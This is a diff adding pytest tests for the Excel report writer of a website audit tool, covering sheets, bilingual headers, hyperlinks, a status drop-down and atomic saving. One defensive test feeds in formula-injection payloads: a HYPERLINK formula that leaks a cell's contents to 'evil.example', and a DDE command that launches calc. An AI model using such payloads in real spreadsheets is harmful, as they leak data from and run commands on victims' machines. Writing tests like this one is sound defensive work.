@@ -1,0 +1,100 @@
+"""The workbook, opened with openpyxl: sheets, headers, hyperlinks, status drop-down, formula
+neutralisation, errors sheet, atomic write."""
+
+from __future__ import annotations
+
+import openpyxl
+import pytest
+
+from checker.config import Config
+from checker.engine import AuditContext, build_rules
+from checker.models import ErrorRecord, Finding, Severity
+from checker.reports.xlsx import FINDING_COLUMNS, write_workbook
+
+HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+def make(tmp_path, findings, errors=(), partial=False):
+    ctx = AuditContext(config=Config(), start_urls=["http://127.0.0.1:1/sitemap.xml"])
+    ctx.errors = list(errors)
+    ctx.partial = partial
+    ctx.interrupted_reason = "Ctrl-C during crawl" if partial else ""
+    path = write_workbook(tmp_path / "out.xlsx", ctx, findings, build_rules(Config()))
+    return openpyxl.load_workbook(path)
+
+
+def finding(**kw):
+    base = dict(code="LN001", severity=Severity.ERROR, message="页面无法访问", url="http://127.0.0.1:1/p/a.html")
+    return Finding(**{**base, **kw})
+
+
+def col(name):
+    return [c for c, _ in FINDING_COLUMNS].index(name) + 1
+
+
+def test_sheets_and_bilingual_headers(tmp_path):
+    wb = make(tmp_path, [finding()])
+    assert wb.sheetnames == ["Summary", "Findings", "Errors", "Rules"]
+    ws = wb["Findings"]
+    headers = [c.value for c in ws[1]]
+    assert headers[:3] == ["序号 No.", "严重程度 Severity", "代码 Code"] and "状态 Status" in headers
+    assert ws.freeze_panes == "A2"
+    assert ws.auto_filter.ref == "A1:Q2"
+    assert ws.column_dimensions["H"].width == 50
+    assert [c.value for c in wb["Errors"][1]] == ["阶段 Stage", "来源 Source", "位置 Location", "原因 Reason"]
+
+
+def test_hyperlink_status_dropdown_and_colour(tmp_path):
+    ws = make(tmp_path, [finding(), finding(code="LN004", severity=Severity.WARNING)])["Findings"]
+    url_cell = ws.cell(row=2, column=col("链接 URL"))
+    assert url_cell.hyperlink is not None and url_cell.hyperlink.target == "http://127.0.0.1:1/p/a.html"
+    assert ws.cell(row=2, column=col("状态 Status")).value == "Open"
+    (dv,) = ws.data_validations.dataValidation
+    assert dv.type == "list" and dv.formula1 == '"Open,Fixed,Accepted"'
+    assert "N2:N1000" in str(dv.sqref)
+    assert ws.cell(row=2, column=col("严重程度 Severity")).fill.fgColor.rgb.endswith("F8CBAD")
+    assert ws.cell(row=3, column=col("严重程度 Severity")).fill.fgColor.rgb.endswith("FFE699")
+
+
+@pytest.mark.parametrize("text", [HOSTILE, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1"])
+def test_web_text_is_never_a_formula(tmp_path, text):
+    ws = make(tmp_path, [finding(evidence=text, sku=text)])["Findings"]
+    cell = ws.cell(row=2, column=col("证据 Evidence"))
+    assert cell.data_type == "s" and cell.value.strip() == text.strip()  # XML turns a bare CR into LF
+    assert ws.cell(row=2, column=col("SKU")).data_type == "s"
+    assert cell.quotePrefix
+
+
+def test_illegal_characters_and_huge_cells_do_not_break_the_file(tmp_path):
+    ws = make(tmp_path, [finding(evidence="a\x00b\x0bc" + "长" * 40_000)])["Findings"]
+    value = ws.cell(row=2, column=col("证据 Evidence")).value
+    assert value.startswith("abc长") and len(value) <= 32_767 and value.endswith("[truncated]")
+
+
+def test_errors_sheet_and_summary(tmp_path):
+    errors = [ErrorRecord(stage="fetch", source="http://127.0.0.1:1/p/x.html", reason="HTTP 404"),
+              ErrorRecord(stage="read", source="inventory.csv", location="row 7, column 到期日", reason="bad date")]
+    wb = make(tmp_path, [finding()], errors, partial=True)
+    rows = list(wb["Errors"].iter_rows(min_row=2, values_only=True))
+    assert rows == [("fetch", "http://127.0.0.1:1/p/x.html", None, "HTTP 404"),
+                    ("read", "inventory.csv", "row 7, column 到期日", "bad date")]
+    summary = {r[0]: r[1] for r in wb["Summary"].iter_rows(values_only=True) if r[0]}
+    assert summary["状态 Status"].endswith("PARTIAL")
+    assert summary["读取错误 Input errors"] == 2 and summary["发现问题 Findings"] == 1
+
+
+@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
+def test_write_is_atomic(tmp_path, monkeypatch):
+    target = tmp_path / "out.xlsx"
+    target.write_bytes(b"previous workbook")
+
+    def boom(self, filename):
+        with open(filename, "wb") as fh:
+            fh.write(b"half")
+        raise OSError("disk full")
+
+    monkeypatch.setattr(openpyxl.Workbook, "save", boom)
+    with pytest.raises(OSError):
+        write_workbook(target, AuditContext(), [finding()], [])
+    assert target.read_bytes() == b"previous workbook"
+    assert [p.name for p in tmp_path.iterdir()] == ["out.xlsx"]
